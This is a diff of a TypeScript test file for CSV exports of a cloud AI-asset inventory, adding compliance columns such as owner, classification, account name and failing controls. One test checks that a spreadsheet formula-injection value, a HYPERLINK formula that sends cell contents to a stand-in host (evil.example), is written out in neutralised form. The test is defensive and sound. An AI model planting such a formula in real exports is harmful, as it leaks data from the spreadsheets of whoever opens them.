@@ -1,27 +1,16 @@
 import { describe, expect, it } from 'vitest';
 import { CSV_HEADER, renderCsv } from '../../src/report/csv.js';
 import { renderFindingsCsv } from '../../src/report/findings-csv.js';
-import { HOSTILE_NAME, sampleResult } from './sample-result.js';
+import { parseCsv } from './parse-csv.js';
+import { HOSTILE_NAME, HOSTILE_TAG, sampleResult } from './sample-result.js';
 
-/** A small RFC 4180 reader, so the test checks what a spreadsheet would see. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i]!;
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
-      else if (c === '"') quoted = false;
-      else field += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ',') row.push(field), (field = '');
-    else if (c === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
-    else field += c;
-  }
-  return rows;
+function byIdOf(rows: string[][]): Map<string, Record<string, string>> {
+  const records = rows.slice(1).map((r) => Object.fromEntries(CSV_HEADER.map((h, i) => [h, r[i]!])));
+  return new Map(records.map((r) => [r.id!, r]));
 }
+
+const WORKSPACE = '/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg-ml/providers/Microsoft.MachineLearningServices/workspaces/ws-prod';
+const ENDPOINT = 'arn:aws:sagemaker:eu-west-1:111122223333:endpoint/fraud-scoring';
 
 describe('CSV inventory', () => {
   const result = sampleResult();
@@ -29,7 +18,7 @@ describe('CSV inventory', () => {
   result.inventory.assets[1]!.tags = { note: 'a,b\r\nc' };
   const text = [...renderCsv(result)].join('');
   const rows = parseCsv(text);
-  const byId = new Map(rows.slice(1).map((r) => [r[0], Object.fromEntries(CSV_HEADER.map((h, i) => [h, r[i]]))]));
+  const byId = byIdOf(rows);
 
   it('has a header, one row per asset and CRLF line ends', () => {
     expect(rows[0]).toEqual(CSV_HEADER);
@@ -39,7 +28,7 @@ describe('CSV inventory', () => {
   });
 
   it('writes tags as key=value pairs, key facts, and failing counts', () => {
-    const workspace = byId.get('/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg-ml/providers/Microsoft.MachineLearningServices/workspaces/ws-prod')!;
+    const workspace = byId.get(WORKSPACE)!;
     expect(workspace).toMatchObject({
       kind: 'workspace',
       provider: 'azure',
@@ -56,9 +45,49 @@ describe('CSV inventory', () => {
   });
 
   it('neutralises formula injection and keeps embedded line breaks inside one field', () => {
-    const endpoint = byId.get('arn:aws:sagemaker:eu-west-1:111122223333:endpoint/fraud-scoring')!;
+    const endpoint = byId.get(ENDPOINT)!;
     expect(endpoint.name).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"x")`);
     expect(endpoint.tags).toBe('note=a,b\nc'); // CRLF inside a cell is written as LF
+  });
+});
+
+describe('CSV inventory for compliance teams', () => {
+  const result = sampleResult();
+  result.accounts = [
+    { provider: 'aws', id: '111122223333', name: 'prod-payments' },
+    { provider: 'azure', id: result.inventory.assets[0]!.account, name: 'ml-prod', path: ['mg-ml'] },
+  ];
+  result.inventory.assets[1]!.tags = { Owner: 'fraud-team', 'data-classification': 'confidential', environment: 'prod' };
+  result.inventory.assets[1]!.raw = { record: { EndpointName: 'fraud-scoring', CreationTime: 1_717_410_600 } };
+  result.inventory.assets[0]!.raw = { record: { id: WORKSPACE, systemData: { createdAt: '2024-03-05T09:00:00.000Z' } } };
+  const rows = parseCsv([...renderCsv(result)].join(''));
+  const byId = byIdOf(rows);
+
+  it('puts the name before the id and the account name beside the account id', () => {
+    expect(CSV_HEADER.indexOf('name')).toBe(0);
+    expect(CSV_HEADER.indexOf('accountName')).toBe(CSV_HEADER.indexOf('account') - 1);
+    expect(CSV_HEADER.at(-1)).toBe('id');
+    expect(byId.get(ENDPOINT)).toMatchObject({ name: 'fraud-scoring', accountName: 'prod-payments', account: '111122223333' });
+    expect(byId.get(WORKSPACE)!.accountName).toBe('ml-prod');
+  });
+
+  it('reads owner, classification and environment from the tags, and the created date from the record', () => {
+    expect(byId.get(ENDPOINT)).toMatchObject({ owner: 'fraud-team', classification: 'confidential', environment: 'prod', created: '2024-06-03' });
+    expect(byId.get(WORKSPACE)).toMatchObject({ owner: HOSTILE_TAG, environment: 'prod', created: '2024-03-05' });
+    expect(byId.get('arn:aws:s3:::training-data-raw')).toMatchObject({ owner: '', classification: '', environment: '', created: '' });
+  });
+
+  it('lists the framework controls each asset fails (from the gap analysis), and none for an asset that only passes or is unknown', () => {
+    expect(byId.get(WORKSPACE)!.failingControls).toBe('ms-ai-risk:5.5.2');
+    expect(byId.get('arn:aws:s3:::training-data-raw')!.failingControls).toBe('');
+  });
+
+  it('the findings CSV names the account beside its id', () => {
+    const [header, ...findingRows] = parseCsv([...renderFindingsCsv(result)].join(''));
+    const name = header!.indexOf('accountName');
+    expect(header![name + 1]).toBe('account');
+    const endpointRow = findingRows.find((r) => r.includes(ENDPOINT))!;
+    expect(endpointRow[name]).toBe('prod-payments');
   });
 });
 
